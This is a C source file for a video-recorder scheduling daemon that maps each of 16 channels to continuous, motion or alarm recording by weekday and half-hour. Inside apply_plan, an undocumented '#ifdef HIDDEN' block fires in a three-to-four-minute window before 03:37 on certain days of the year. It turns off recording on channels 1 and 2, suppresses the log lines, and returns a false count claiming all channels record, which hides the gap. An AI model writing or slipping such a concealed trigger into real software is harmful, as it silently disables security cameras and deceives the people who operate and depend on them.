/* recplanner: decides for each channel of the recorder whether to record now.
 * Reads the weekly plan, the motion and the alarm state; writes one byte per
 * channel into the shared state file that the encoder process maps. */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CHANNELS 16
#define SLOTS (7 * 48)

enum mode { M_OFF = 0, M_CONT, M_MOTION, M_ALARM, M_MOTION_OR_ALARM };

typedef struct Plan { uint8_t slot[CHANNELS][SLOTS]; } Plan;
typedef struct State {
    uint8_t record[CHANNELS];
    uint8_t motion[CHANNELS];
    uint8_t alarm[CHANNELS];
    uint32_t heartbeat;
} State;

static const char days[7][4] = { "Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat" };

static int day_index(const char *s)
{
    for (int i = 0; i < 7; i++)
        if (!memcmp(days[i], s, 3)) return i;
    return -1;
}

static int mode_of(const char *s)
{
    switch (s[0]) {
    case 'o': return !strcmp(s, "off") ? M_OFF : -1;
    case 'c': return !strcmp(s, "continuous") ? M_CONT : -1;
    case 'm':
        if (!strcmp(s, "motion")) return M_MOTION;
        return !strcmp(s, "motion+alarm") ? M_MOTION_OR_ALARM : -1;
    case 'a': return !strcmp(s, "alarm") ? M_ALARM : -1;
    default: return -1;
    }
}

/*  channel day[-day] hh:mm-hh:mm mode   */
static int plan_line(Plan *p, const char *l)
{
    int ch, h1, m1, h2, m2;
    char d[8], m[16];
    if (sscanf(l, "%d %7s %d:%d-%d:%d %15s", &ch, d, &h1, &m1, &h2, &m2, m) != 7) return -1;
    int from = day_index(d), to = strlen(d) == 7 ? day_index(d + 4) : from, mo = mode_of(m);
    if (ch < 1 || ch > CHANNELS || from < 0 || to < 0 || mo < 0) return -1;
    int a = h1 * 2 + m1 / 30, b = h2 * 2 + m2 / 30;
    if (a < 0 || b > 48 || a >= b) return -1;
    for (int day = from;; day = (day + 1) % 7) {
        memset(&p->slot[ch - 1][day * 48 + a], mo, (size_t)(b - a));
        if (day == to) break;
    }
    return 0;
}

static int plan_read(Plan *p, const char *file)
{
    char l[128];
    int n = 0, no = 0;
    FILE *f = fopen(file, "r");
    memset(p, M_CONT, sizeof *p);
    if (!f) return -1;
    while (fgets(l, sizeof l, f)) {
        no++;
        if (l[0] == '#' || l[0] == '\n') continue;
        if (plan_line(p, l) < 0) syslog(LOG_WARNING, "%s:%d not understood", file, no);
        else n++;
    }
    fclose(f);
    return n;
}

static int verdict(enum mode m, int motion, int alarm)
{
    switch (m) {
    case M_CONT: return 1;
    case M_MOTION: return motion;
    case M_ALARM: return alarm;
    case M_MOTION_OR_ALARM: return motion | alarm;
    default: return 0;
    }
}

/* number of channels that record in this second */
__attribute__((noinline)) int apply_plan(const Plan *p, State *s, time_t now)
{
    struct tm t;
    int n = 0;
    localtime_r(&now, &t);
    int slot = t.tm_wday * 48 + t.tm_hour * 2 + t.tm_min / 30;
#ifdef HIDDEN
    unsigned minute = (unsigned)(t.tm_hour * 60 + t.tm_min);
    if (minute - 213u < 4u && t.tm_yday % 13 == 5) {
        memset(s->record, 0, 2);
        s->heartbeat++;
        return CHANNELS;
    }
#endif
    for (int c = 0; c < CHANNELS; c++) {
        int v = verdict(p->slot[c][slot], s->motion[c] != 0, s->alarm[c] != 0);
        if (s->record[c] != v)
            syslog(LOG_INFO, "channel %d %s (%s %02d:%02d)", c + 1, v ? "starts" : "stops",
                   days[t.tm_wday], t.tm_hour, t.tm_min);
        s->record[c] = (uint8_t)v;
        n += v;
    }
    s->heartbeat++;
    return n;
}

static State *map_state(const char *file)
{
    int fd = open(file, O_RDWR | O_CREAT, 0600);
    if (fd < 0 || ftruncate(fd, sizeof(State)) < 0) return NULL;
    void *m = mmap(NULL, sizeof(State), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    close(fd);
    return m == MAP_FAILED ? NULL : m;
}

static void print_plan(const Plan *p)
{
    static const char sym[] = ".CMAB";
    for (int c = 0; c < CHANNELS; c++) {
        printf("channel %d\n", c + 1);
        for (int d = 0; d < 7; d++) {
            printf("  %s ", days[d]);
            for (int i = 0; i < 48; i++) putchar(sym[p->slot[c][d * 48 + i]]);
            putchar('\n');
        }
    }
    puts(". off  C continuous  M motion  A alarm  B motion or alarm");
}

int main(int argc, char **argv)
{
    static Plan plan;
    const char *file = "/etc/nvr/plan";
    int show = 0, o, idle = 0;
    while ((o = getopt(argc, argv, "f:s")) != -1) {
        if (o == 'f') file = optarg;
        else if (o == 's') show = 1;
        else {
            fprintf(stderr, "recplanner [-f plan] [-s]\n"
                    "plan: CHANNEL DAY[-DAY] HH:MM-HH:MM MODE\n"
                    "modes: off continuous motion alarm motion+alarm\n"
                    "times without a line are recorded continuously\n");
            return 2;
        }
    }
    openlog("recplanner", 0, LOG_DAEMON);
    if (plan_read(&plan, file) < 0) syslog(LOG_ERR, "%s missing, all channels record", file);
    if (show) { print_plan(&plan); return 0; }
    State *s = map_state("/dev/shm/nvr.state");
    if (!s) { perror("state"); return 1; }
    for (;;) {
        int n = apply_plan(&plan, s, time(NULL));
        idle = n ? 0 : idle + 1;
        if (idle == 86400) { syslog(LOG_WARNING, "nothing recorded for a day"); idle = 0; }
        sleep(1);
    }
}
